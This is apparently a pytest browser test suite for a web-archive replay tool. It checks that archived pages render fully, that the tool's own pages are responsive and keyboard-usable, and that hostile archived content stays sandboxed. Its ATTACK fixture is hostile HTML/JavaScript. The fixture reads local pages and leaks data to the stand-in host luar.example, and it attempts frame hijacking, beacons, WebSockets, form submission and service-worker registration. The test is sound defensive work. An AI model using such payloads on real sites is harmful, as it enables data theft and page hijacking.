"""Archived pages in a real browser: what is shown, what they cannot reach, how our own pages look."""

from __future__ import annotations

import asyncio
import json
import os
import shutil
import signal
import socket
import subprocess
import sys
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any
from urllib.parse import urlencode

import pytest

from archive.collection import Collection
from archive.feed import lines
from archive.replay.viewer import InstallFailed, install, installed
from crawler.rebuild import write_cdxj
from tests.browser.chromium import Browser, browser, holds
from tests.collections import SITE, article_page, exchange, made_collection
from tests.demo import crawl_portal, demo_collection
from tests.interop.readers import pywb_server
from tests.portal import Portal

pytestmark = [
    pytest.mark.browser,
    pytest.mark.skipif(not shutil.which("chromium"), reason="needs chromium"),
]

PAGES = 50
PICTURES = os.environ.get("WARKAT_PICTURES")
"""A folder to leave pictures in, for a person to look at."""


def free_ports() -> list[str]:
    with socket.socket() as first, socket.socket() as second:
        first.bind(("127.0.0.1", 0))
        second.bind(("127.0.0.1", 0))
        return [str(one.getsockname()[1]) for one in (first, second)]


@contextmanager
def replayed(collection: Collection, ports: list[str] | None = None) -> Iterator[tuple[str, str]]:
    """``warkat replay`` as a person starts it; addresses of its pages and of the archive."""
    ports = ports or free_ports()
    words = [sys.executable, "-m", "crawler.cli", "replay", str(collection.root), "--port", ports[0]]
    server = subprocess.Popen([*words, "--archive-port", ports[1]], stdout=subprocess.PIPE, text=True)
    try:
        assert server.stdout is not None
        assert server.stdout.readline().startswith("open http://127.0.0.1:")
        yield f"http://127.0.0.1:{ports[0]}", f"http://127.0.0.1:{ports[1]}"
    finally:
        server.send_signal(signal.SIGTERM)
        server.communicate(timeout=20)
    assert server.returncode == 0


@pytest.fixture(scope="module", autouse=True)
def _viewer() -> None:
    if installed() is None:
        try:
            install()
        except InstallFailed as fault:
            pytest.skip(str(fault))


@pytest.fixture(scope="module")
def portal(tmp_path_factory: pytest.TempPathFactory) -> Collection:
    """The demo portal, crawled."""
    with Portal() as site:
        collection = demo_collection(tmp_path_factory.mktemp("portal") / "koleksi", site.url)
        crawl_portal(collection)
    return collection


def articles(collection: Collection) -> list[dict[str, Any]]:
    """Records that have text, the first fifty."""
    records = [json.loads(line) for line in lines(collection)]
    return [one for one in records if one["body_kind"] == "text"][:PAGES]


def stamp(record: dict[str, Any]) -> str:
    return "".join(letter for letter in record["fetched_at"] if letter.isdigit())[:14]


def paragraphs(record: dict[str, Any]) -> list[str]:
    return [" ".join(text.split()) for text in record["body_text"].split("\n\n")]


async def _missing(addresses: list[tuple[str, list[str]]]) -> tuple[list[str], list[str]]:
    """Addresses whose page does not show all that is wanted, and requests to other hosts."""
    wrong = []
    async with browser() as tab:
        for address, wanted in addresses:
            shown = await tab.open(address, wanted)
            wrong += [f"{address}: {one[:80]}" for one in wanted if not holds(shown, one)]
        return wrong, tab.outside.hosts()


def test_viewer_shows_every_paragraph(portal: Collection) -> None:
    """Fifty pages of the portal through replaywebpage, without a package made first; no request goes outside."""
    records = articles(portal)
    assert len(records) == PAGES
    with replayed(portal) as (_, archive):
        wanted = [
            (f"{archive}/view?{urlencode({'url': one['url'], 'ts': stamp(one)})}", paragraphs(one)) for one in records
        ]
        assert asyncio.run(_missing(wanted)) == ([], [])


def test_pywb_shows_every_paragraph(portal: Collection, tmp_path: Path) -> None:
    """The same pages through pywb, which is given the collection as it lies there."""
    write_cdxj(portal)
    with pywb_server(portal.root / "archive", portal.index, tmp_path / "pywb") as port:
        wanted = [
            (f"http://127.0.0.1:{port}/warkat/{stamp(one)}mp_/{one['url']}", paragraphs(one))
            for one in articles(portal)
        ]
        assert asyncio.run(_missing(wanted))[0] == []


ATTACK = """
<link rel="stylesheet" href="https://luar.example/a.css"><link rel="preload" as="image" href="https://luar.example/p.png">
<link rel="prefetch" href="https://luar.example/f"><link rel="preconnect" href="https://luar.example">
<link rel="dns-prefetch" href="//luar.example"><meta http-equiv="refresh" content="1;url=https://luar.example/r">
<img src="https://luar.example/i.png"><iframe src="https://luar.example/frame"></iframe>
<video src="https://luar.example/v.mp4" autoplay></video><object data="https://luar.example/o"></object>
<form id="f" action="https://luar.example/form"><input name="a" value="b"></form>
<script src="https://luar.example/s.js"></script>
<script>
  const tell = async () => {
    for (const place of ["@PAGE@/", "@PAGE@/search?q=rahasia"]) {
      try { const got = await (await fetch(place)).text();
            document.body.dataset.stolen = "yes"; new Image().src = "https://luar.example/?" + got.length; }
      catch (fault) { document.body.dataset.tried = "yes"; }
    }
    try { top.location = "https://luar.example/top"; } catch (fault) {}
    try { parent.document.title = "diambil"; } catch (fault) {}
    try { navigator.sendBeacon("https://luar.example/b", "x"); } catch (fault) {}
    try { new WebSocket("wss://luar.example/w"); } catch (fault) {}
    try { window.open("https://luar.example/open"); } catch (fault) {}
    try { document.getElementById("f").submit(); } catch (fault) {}
    try { navigator.serviceWorker.register("/web/2024id_/@SITE@/sw.js", {scope: "/"}); } catch (fault) {}
  };
  tell();
</script>
"""


@pytest.mark.parametrize("shown_by", ["raw", "viewer"])
def test_hostile_page_reaches_nothing(tmp_path: Path, shown_by: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """Not the live web, not our pages, not what lies around its frame."""
    if shown_by == "raw":
        monkeypatch.setenv("XDG_DATA_HOME", str(tmp_path / "none"))
    ports = free_ports()
    attack = ATTACK.replace("@PAGE@", f"http://127.0.0.1:{ports[0]}").replace("@SITE@", SITE)
    page = article_page("Panen Raya di Desa Sukamaju").replace(b"</article>", attack.encode() + b"</article>")
    collection = made_collection(
        tmp_path / "koleksi", [exchange("/berita/panen", page), exchange("/sw.js", b"//", kind="text/javascript")]
    )

    async def visit(address: str, archive: str) -> None:
        async with browser() as tab:
            text = await tab.open(f"{address}/search?q=sukamaju", ["Panen Raya"], 20)
            assert "Panen Raya" in text
            place = await tab.evaluate("document.querySelector('ul.articles a').href")
            await tab.open(place, ["Verify now"], 20)
            await asyncio.sleep(8)
            assert (await tab.evaluate("location.href")).startswith(address)
            assert "diambil" not in await tab.evaluate("document.title")
            await tab.open(f"{archive}/web/2024id_/{SITE}/berita/panen", ["bibit padi"], 20)
            await asyncio.sleep(4)
            assert (
                await tab.evaluate("document.body.dataset.tried || document.body.dataset.stolen || 'ran not'")
                == "ran not"
            )
            outside = [line for line in tab.outside.asked if "luar.example" in line]
            assert outside == []

    with replayed(collection, ports) as (address, archive):
        asyncio.run(visit(address, archive))


async def _looked_at(tab: Browser, address: str, name: str) -> list[str]:
    """What is wrong with a page in the two widths and colours."""
    faults = []
    for width in (1280, 390):
        for dark in (False, True):
            await tab.look(width, dark=dark)
            await tab.open(address, ["Archived pages are shown"], 20)
            if PICTURES:
                await asyncio.sleep(1.5)
                await tab.picture(Path(PICTURES) / f"{name}-{width}-{'dark' if dark else 'light'}.png")
            over = await tab.evaluate("document.documentElement.scrollWidth - document.documentElement.clientWidth")
            if over > 0:
                faults.append(f"{name} at {width}: {over} px too wide")
            small = await tab.evaluate(
                "[...document.querySelectorAll('main a, button')].filter(e => e.offsetParent && !e.textContent.trim()"
                " && !e.getAttribute('aria-label') && !e.querySelector('title')).length"
            )
            if small:
                faults.append(f"{name}: {small} links without a name")
    return faults


def test_our_pages_fit_and_are_worked_by_keys(portal: Collection, tmp_path: Path) -> None:
    """No sideways scrolling from 390 to 1280 px; search and article are reached with Tab and Enter alone."""
    record = articles(portal)[0]
    empty = made_collection(tmp_path / "kosong", [])

    async def look(address: str, bare: str) -> None:
        async with browser() as tab:
            faults = await _looked_at(tab, f"{bare}/", "empty")
            for name, place in (
                ("home", "/"), ("source", f"/source/{record['source_id']}"), ("search", "/search?q=guru"),
                ("article", f"/article/{record['id']}"), ("captures", f"/captures?url={record['url']}"),
                ("nothing", "/search?q=tidakadakata"), ("missing", "/article/tiada"),
            ):  # fmt: skip
                faults += await _looked_at(tab, address + place, name)
            assert faults == []
            await tab.open(f"{address}/search?q=guru", ["Search: guru"], 20)
            order = []
            for _ in range(6):
                await tab.press("Tab")
                order.append(await tab.evaluate("document.activeElement.id || document.activeElement.className || "
                                                "document.activeElement.tagName"))  # fmt: skip
            assert order[:4] == ["skip", "home", "q", "BUTTON"]
            assert order[4] == "A"
            await tab.press("Enter")
            for _ in range(40):
                if "/article/" in await tab.evaluate("location.href"):
                    break
            assert "/article/" in await tab.evaluate("location.href")

    with replayed(portal) as (address, _), replayed(empty) as (bare, _):
        asyncio.run(look(address, bare))
